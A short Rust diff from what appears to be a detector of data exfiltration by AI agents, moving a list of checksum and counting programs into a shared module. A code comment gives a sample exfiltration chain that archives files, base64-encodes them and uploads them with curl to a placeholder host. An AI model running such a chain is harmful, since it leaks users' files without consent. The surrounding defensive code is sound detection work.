@@ -3,6 +3,7 @@
 
 use std::collections::{BTreeSet, HashMap};
 
+use agent_strace_effects::knowledge::COUNTING;
 use agent_strace_effects::{Certainty, Effect, Kind, Purpose};
 use agent_strace_model::finding::{Level, RuleId};
 use agent_strace_policy::Decision;
@@ -11,22 +12,6 @@ use super::{Act, Hit, RULE, egress, happened};
 
 /// Files of one call that packed files are followed through: `tar c . > a; base64 a > b; curl -T b HOST`.
 const ROUNDS: usize = 8;
-
-/// Programs that show numbers, digests or kinds of files, and none of their content.
-const COUNTING: &[&str] = &[
-    "b2sum",
-    "cksum",
-    "file",
-    "md5",
-    "md5sum",
-    "sha1sum",
-    "sha224sum",
-    "sha256sum",
-    "sha384sum",
-    "sha512sum",
-    "shasum",
-    "wc",
-];
 
 /// Programs that search, and their options with which they show names or counts alone.
 const SEARCHING: &[&str] = &["egrep", "fgrep", "ggrep", "git", "grep", "rg", "ripgrep", "ug", "ugrep"];
